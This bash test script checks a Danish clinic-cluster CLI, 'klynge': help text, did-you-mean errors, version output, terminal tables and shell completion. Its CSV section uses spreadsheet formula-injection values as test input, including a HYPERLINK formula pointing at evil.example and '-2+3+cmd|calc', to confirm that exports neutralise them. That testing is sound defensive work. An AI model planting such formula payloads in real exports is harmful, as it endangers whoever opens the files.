#!/usr/bin/env bash
# Command-line conventions (issue 16): `klynge help`, a bare `klynge`, unknown
# subcommands with a did-you-mean, -V/--version with the schema version.
source "$(dirname "$0")/lib.sh"

W=$TMP/w
new_workspace "$W"

# --- a bare klynge: the short usage, exit 0, nothing on stderr -------------
run
expect_rc 0 "bare klynge"
expect_out "usage: klynge [-C DIR]" "bare klynge prints the synopsis"
expect_out "  ledger  " "bare klynge lists the commands"
expect_out "klynge help COMMAND" "bare klynge points at klynge help"
expect_eq "$ERR" "" "bare klynge writes nothing on stderr"
long=0
while IFS= read -r line; do [ ${#line} -gt 80 ] && long=$((long + 1)); done <<<"$OUT"
expect_eq "$long" 0 "the short usage fits 80 columns"

# --- klynge help [COMMAND...] = COMMAND --help ------------------------------
for words in "" "member" "ledger add" "meeting call" "help"; do
    # shellcheck disable=SC2086
    run help $words
    expect_rc 0 "klynge help $words"
    help=$OUT
    # shellcheck disable=SC2086
    run $words --help
    expect_eq "$help" "$OUT" "klynge help $words is klynge $words --help"
done
run help ledger
expect_out "Usage: klynge ledger [OPTIONS] SUBCOMMAND" "help ledger shows the ledger's usage"
expect_out "balance" "help ledger lists its subcommands"

refused "$W" 2 "unknown command \"membr\" — did you mean \`klynge member\`?" help membr
refused "$W" 2 "unknown subcommand 'bogus' of 'ledger'" help ledger bogus
refused "$W" 2 "has no subcommand 'extra'" help ledger add extra

# --man opens the page of the command's group (man -l on the source tree's page).
if command -v man >/dev/null; then
    OUT=$(MANPAGER=cat PAGER=cat "$KLYNGE" help --man ledger add 2>&1); RC=$?
    expect_rc 0 "help --man ledger add"
    expect_out "klynge-ledger" "help --man ledger add opens klynge-ledger(1)"
    OUT=$(MANPAGER=cat PAGER=cat "$KLYNGE" help --man restore 2>&1)
    expect_out "klynge-dump" "help --man restore opens klynge-dump(1)"
    OUT=$(MANPAGER=cat PAGER=cat "$KLYNGE" help --man 2>&1)
    expect_out "KLYNGE(1)" "help --man alone opens klynge(1)"
    OUT=$(MANPAGER=cat PAGER=cat "$KLYNGE" help --man help 2>&1)
    expect_out "KLYNGE-HELP(1)" "help --man help opens klynge-help(1)"
fi
# Without man on the PATH: a one-line error, exit 3.
OUT=$(PATH=/nonexistent "$KLYNGE" help --man ledger 2>"$CAPTURE/stderr"); RC=$?
ERR=$(cat "$CAPTURE/stderr")
expect_rc 3 "help --man without man"
expect_err "cannot run man" "help --man without man says so"
expect_err "install man-db" "help --man without man says how to fix it"

# --- unknown subcommands, with a did-you-mean --------------------------------
refused "$W" 2 "unknown subcommand 'bogus' of 'ledger' — \`klynge help ledger\` lists its subcommands" ledger bogus
refused "$W" 2 "unknown subcommand 'balanse' of 'ledger' — did you mean \`klynge ledger balance\`?" ledger balanse
refused "$W" 2 "did you mean \`klynge member list\`?" member lst
refused "$W" 2 "did you mean \`klynge meeting list\`?" --format json meeting lsit
refused "$W" 2 "did you mean \`klynge ledger list\`?" -C "$W" ledger lis
refused "$W" 2 "unknown command \"stauts\" — did you mean \`klynge status\`?" stauts
# A group without its subcommand lists them.
refused "$W" 2 "\`klynge ledger\` needs a subcommand: add, income," ledger
# Option values are not taken for subcommands, and a command's own
# positional arguments are its own.
in_dir "$W" --format json member list
expect_rc 0 "--format json member list"
in_dir "$W" member list --format csv
expect_rc 0 "member list --format csv"
in_dir "$W" -C "$W" status
expect_rc 0 "-C DIR status"
in_dir "$W" ledger bogus --help
expect_rc 0 "--help wins over an unknown subcommand (CLI11 prints the help)"

# --- -V and --version: klynge's version and the schema it writes -------------
run --version
expect_rc 0 "--version"
version=$OUT
expect_out "klynge 0." "--version names klynge's version"
schema=$(sqlite3 "$W/klynge.db" 'PRAGMA user_version' 2>/dev/null || python3 -c "import sqlite3,sys; print(sqlite3.connect(sys.argv[1]).execute('PRAGMA user_version').fetchone()[0])" "$W/klynge.db")
expect_out "schema version $schema " "--version names the schema version a new workspace has ($schema)"
run -V
expect_rc 0 "-V"
expect_eq "$OUT" "$version" "-V is --version"
in_dir "$W" member list -V
expect_rc 0 "-V after a command"
expect_eq "$OUT" "$version" "-V after a command prints the version"

# --- excel-da CSV: formula triggers neutralised, amounts untouched -----------
L=$TMP/books
new_workspace "$L"
(cd "$L" && "$KLYNGE" ledger income --date 2025-01-10 --amount 5000 --kind driftstilskud --text '@SUM(1+9)*cmd' \
  && "$KLYNGE" ledger add --date 2025-01-15 --amount 1234,50 --category forplejning \
       --text '=HYPERLINK("http://evil.example/?x";"Klik")' \
  && "$KLYNGE" ledger add --date 2025-01-15 --amount 100 --category forplejning --text '+45 kaffe' \
  && "$KLYNGE" ledger add --date 2025-01-16 --amount 200 --category forplejning --text '-2+3+cmd|calc' \
  && "$KLYNGE" ledger reverse B-2025-002 --reason 'forkert beløb') >/dev/null 2>&1 || { echo "ledger setup failed" >&2; exit 1; }
in_dir "$L" ledger list --format csv --csv-dialect excel-da
expect_rc 0 "ledger list excel-da"
excel=$OUT
expect_out ";'@SUM(1+9)*cmd;" "excel-da: a text starting with @ gets an apostrophe"
expect_out ";\"'=HYPERLINK(\"\"http://evil.example/?x\"\";\"\"Klik\"\")\";" "excel-da: = gets an apostrophe, and the field stays quoted"
expect_out ";'+45 kaffe;" "excel-da: + gets an apostrophe"
expect_out ";'-2+3+cmd|calc;" "excel-da: - gets an apostrophe"
expect_out ";-1234,50;" "excel-da: a negative amount is untouched"
expect_out ";1234,50;" "excel-da: an amount is untouched"
expect_out ";2025-01-15;" "excel-da: a date is untouched"
# A tab or CR cannot enter a text through klynge's arguments (refused at the
# edge); tests/unit/test_csv.cpp covers those two triggers.
in_dir "$L" ledger list --format csv
expect_rc 0 "ledger list rfc4180"
expect_out ",@SUM(1+9)*cmd," "rfc4180 stays byte-faithful (@)"
expect_out ",\"=HYPERLINK(\"\"http://evil.example/?x\"\";\"\"Klik\"\")\"," "rfc4180 stays byte-faithful (=)"
expect_out ",-2+3+cmd|calc," "rfc4180 stays byte-faithful (-)"
expect_out ",-1234.50," "rfc4180: the negative amount"
expect_no_out ",'" "rfc4180 adds no apostrophe anywhere"
# JSON is not a spreadsheet: untouched.
in_dir "$L" ledger list --format json
expect_out '"text": "=HYPERLINK(' "json is untouched"

# The claim pack PLO opens in Excel: its CSV files are excel-da too.
CP=$TMP/claim
new_workspace "$CP"
kc() { (cd "$CP" && "$KLYNGE" "$@" >/dev/null 2>&1) || { echo "claim setup failed: $*" >&2; exit 1; }; }
kc practice add 123456 --name "Lægerne Østerbrogade" --patients 20000 --as-of 2025-01-01 --joined 2018-11-15
kc member add "Anne Ærø" --email anne@example.dk --practice 123456 --position ejerlæge --joined 2018-11-15
kc role assign koordinator anne@example.dk --from 2018-11-15
KLYNGE_TODAY=2024-12-20 kc meeting call --type klyngemøde --title "Klyngemøde januar" --start "2025-01-15 17:00" \
    --end "19:00" --place Lægehuset --invite anne@example.dk --guest "-Lise Hansen <lise@example.dk>"
kc meeting attend 1 anne@example.dk lise@example.dk
kc ledger add --date 2025-01-15 --amount 1234,50 --category forplejning --meeting 1 \
    --text '=HYPERLINK("http://x")' --payee '@Slagter'
kc ledger add --date 2025-01-15 --amount 100 --category materialer --meeting 1 --text '-2+3+cmd|calc' --payee '+45 Papir'
kc ledger add --date 2025-01-15 --amount 50 --category materialer --meeting 1 --text 'Kaffe -12' --payee 'Brugsen'
in_dir "$CP" ledger claim 1
expect_rc 0 "ledger claim"
P=$(find "$CP/documents/meetings" -type d -name afregning | head -1)
OUT=$(tr -d '\r' <"$P/udgifter.csv")
expect_out ";\"'=HYPERLINK(\"\"http://x\"\")\";'@Slagter;1234,50;" "claim pack: = and @ get an apostrophe, the amount untouched"
expect_out ";'-2+3+cmd|calc;'+45 Papir;100,00;" "claim pack: - and + get an apostrophe"
expect_out ";Kaffe -12;Brugsen;50,00;" "claim pack: a text without a trigger is kept"
expect_out $'\nI alt;;;;;1384,50;;' "claim pack: the total untouched"
expect_out ";2025-01-15;" "claim pack: a date is untouched"
expect_no_out ";=HYPERLINK" "claim pack: no cell starts with ="
[[ "$(head -c 3 "$P/udgifter.csv")" == $'\xEF\xBB\xBF' ]] && pass || fail "claim pack: the byte order mark"
OUT=$(tr -d '\r' <"$P/deltagere.csv")
expect_out $'\nAnne Ærø;123456;Lægerne Østerbrogade;medlem' "claim pack: a member's line"
expect_out $'\n\'-Lise Hansen;;;gæst' "claim pack: a guest's name starting with - gets an apostrophe"

# --- tables fit the terminal -------------------------------------------------
long_text="Forplejning til temamødet om KOL og spirometri med oplægsholder fra Bispebjerg Hospital, lungemedicinsk afdeling"
(cd "$L" && "$KLYNGE" ledger add --date 2025-01-17 --amount 98765,43 --category forplejning --text "$long_text") \
    >/dev/null 2>&1 || { echo "ledger add failed" >&2; exit 1; }
# on_tty COLUMNS ARGS...: klynge in workspace $L with standard output on a
# pseudo-terminal (script from util-linux, else python3's pty module).
on_tty() {
    local columns=$1
    shift
    local cmd
    cmd="cd $(printf %q "$L") && COLUMNS=$columns $(printf %q "$KLYNGE")$(printf ' %q' "$@")"
    if command -v script >/dev/null; then
        OUT=$(script -qec "$cmd" /dev/null </dev/null | tr -d '\r')
    else
        OUT=$(python3 -c 'import pty, sys; sys.exit(pty.spawn(["bash", "-c", sys.argv[1]]) >> 8)' "$cmd" </dev/null | tr -d '\r')
    fi
    RC=${PIPESTATUS[0]}
}
widest() { local w=0 line; while IFS= read -r line; do [ ${#line} -gt "$w" ] && w=${#line}; done <<<"$1"; echo "$w"; }

in_dir "$L" ledger list
piped=$OUT
expect_out "$long_text" "a pipe gets the full text"
expect_no_out "…" "a pipe gets no shortened cell"
[ "$(widest "$piped")" -gt 100 ] && pass || fail "the full table is wider than 100 columns (else this test proves nothing)"

on_tty 80 ledger list
expect_rc 0 "ledger list on an 80-column terminal"
tty80=$OUT
expect_eq "$(widest "$tty80")" 80 "on an 80-column terminal the table is 80 columns wide"
expect_out " Forplejni" "the long text starts as it does"
expect_out "…" "the long text is shortened with …"
expect_no_out "$long_text" "the long text is not printed whole"
expect_out "98.765,43 kr." "an amount is never shortened"
expect_out "-1.234,50 kr." "a negative amount is never shortened"
expect_out "2025-01-17" "a date is never shortened"
expect_out "B-2025-006" "a voucher is not shortened while prose can give way"
expect_eq "$(head -1 <<<"$tty80" | tr -s ' ')" "$(head -1 <<<"$piped" | tr -s ' ')" "the header is never shortened"
expect_eq "$(wc -l <<<"$tty80")" "$(wc -l <<<"$piped")" "one line per row on the terminal too"

on_tty 80 --wide ledger list
expect_eq "$OUT" "$piped" "--wide prints the whole table on a terminal"
on_tty 80 ledger list --wide
expect_eq "$OUT" "$piped" "--wide works after the command too"
on_tty 250 ledger list
expect_eq "$OUT" "$piped" "a table narrower than the terminal is printed whole"
on_tty 80 ledger list --format csv
expect_out "$long_text" "csv on a terminal is never shortened"
on_tty 60 member list
expect_rc 0 "member list on a 60-column terminal"

# --- shell completion -----------------------------------------------------------
C=$TMP/comp
new_workspace "$C"
(cd "$C" && "$KLYNGE" practice add 123456 --name "Lægerne Østerbrogade" --patients 9876 --as-of 2025-01-15 \
  && "$KLYNGE" member add "Anne Ærø" --email anne@example.dk --practice 123456 --position ejerlæge --joined 2024-01-01 \
  && "$KLYNGE" member add "Bo Østergaard" --email bo@example.dk --practice 123456 --position ansat --joined 2024-01-01 \
  && "$KLYNGE" ledger income --date 2025-01-10 --amount 5000 --kind driftstilskud --text Tilskud \
  && "$KLYNGE" role assign koordinator anne@example.dk --from 2024-01-01 \
  && "$KLYNGE" meeting call --type klyngemøde --title "Møde om KOL" --start "2025-03-10 17:00" --end "2025-03-10 19:00" \
       --place Østerbrohuset --outbox) >/dev/null 2>&1 || { echo "completion setup failed" >&2; exit 1; }
run completion bash
expect_rc 0 "completion bash"
printf '%s' "$OUT" >"$TMP/klynge.bash"
# complete_words WORDS... : what bash offers after sourcing the script, for
# the command line `klynge WORDS` with the cursor at the end of the last word.
complete_words() {
    (cd "$C" && bash --norc --noprofile -c '
        source "$1"; shift
        COMP_WORDS=(klynge "$@"); COMP_CWORD=$#
        _klynge; printf "%s\n" "${COMPREPLY[@]}"' _ "$TMP/klynge.bash" "$@")
}
spec=$(bash --norc --noprofile -c 'source "$1"; complete -p klynge' _ "$TMP/klynge.bash")
expect_eq "$spec" "complete -o default -F _klynge klynge" "complete -p klynge after sourcing the script"
expect_eq "$(complete_words led)" "ledger" "klynge led<TAB>"
expect_eq "$(complete_words ledger bal)" "balance" "klynge ledger bal<TAB>"
expect_eq "$(complete_words member show "")" $'anne@example.dk\nbo@example.dk' "member show <TAB>: the members' e-mails"
expect_eq "$(complete_words member show b)" "bo@example.dk" "member show b<TAB>"
expect_eq "$(complete_words meeting show "")" "1" "meeting show <TAB>: the meeting numbers"
expect_eq "$(complete_words ledger add --category forp)" "forplejning" "--category forp<TAB>: a category"
expect_eq "$(complete_words --format j)" "json" "--format j<TAB>: an IsMember choice"
expect_eq "$(complete_words ledger list --ye)" "--year" "ledger list --ye<TAB>: an option"
years=$(complete_words ledger report --year "")
[[ "$years" == *2025* ]] && pass || fail "ledger report --year <TAB> offers the ledger's years: $years"
expect_eq "$(complete_words ledger show B-2025)" "B-2025-001" "ledger show B-2025<TAB>: a voucher"
expect_eq "$(complete_words completion "")" $'bash\nzsh\nfish' "completion <TAB>: the shells"
expect_eq "$(complete_words ledger import "")" "" "a FILE gets no candidate (bash completes file names: -o default)"
expect_eq "$(complete_words -C "$C" member show a)" "anne@example.dk" "-C DIR is the workspace the values come from"
no_ws=$(cd "$TMP" && "$KLYNGE" __complete -- member show "" 2>&1; echo "rc=$?")
expect_eq "$no_ws" "rc=0" "outside a workspace: no values, no error"
refused "$C" 2 "not one of bash, zsh, fish" completion tcsh
for sh in zsh fish; do
    run completion "$sh"
    expect_rc 0 "completion $sh"
    command -v "$sh" >/dev/null || { fail "$sh is missing — apt-get install $sh (scripts/debian-packages.txt)"; continue; }
    printf '%s' "$OUT" >"$TMP/klynge.$sh"
    "$sh" -n "$TMP/klynge.$sh" && pass || fail "the $sh script does not parse"
done
# zsh: the completion function itself, with compadd and _files standing in
# for the completion system's, on the command line `klynge WORDS`.
zsh_words() {
    (cd "$C" && zsh -f -c '
        compdef() { :; }
        compadd() { [[ $1 == -- ]] && shift; print -l -- "$@"; }
        _files() { print -- "(files)"; }
        source "$1"; shift
        words=(klynge "$@"); CURRENT=${#words}
        _klynge' _ "$TMP/klynge.zsh" "$@")
}
expect_eq "$(zsh_words led)" "ledger" "zsh: klynge led<TAB>"
expect_eq "$(zsh_words member show "")" $'anne@example.dk\nbo@example.dk' "zsh: member show <TAB>: the e-mails"
expect_eq "$(zsh_words ledger add --category forp)" "forplejning" "zsh: --category forp<TAB>"
expect_eq "$(zsh_words ledger import "")" "(files)" "zsh: a FILE falls back to file names"
# fish: `complete -C` asks the loaded completion what it offers.
fish_words() { (cd "$C" && fish --no-config -c 'source $argv[1]; complete -C "$argv[2]"' "$TMP/klynge.fish" "$1"); }
expect_eq "$(fish_words "klynge led" | cut -f1)" "ledger" "fish: klynge led<TAB>"
expect_eq "$(fish_words "klynge member show " | cut -f1)" $'anne@example.dk\nbo@example.dk' "fish: member show <TAB>"
expect_eq "$(fish_words "klynge ledger add --category forp" | cut -f1)" "forplejning" "fish: --category forp<TAB>"

finish
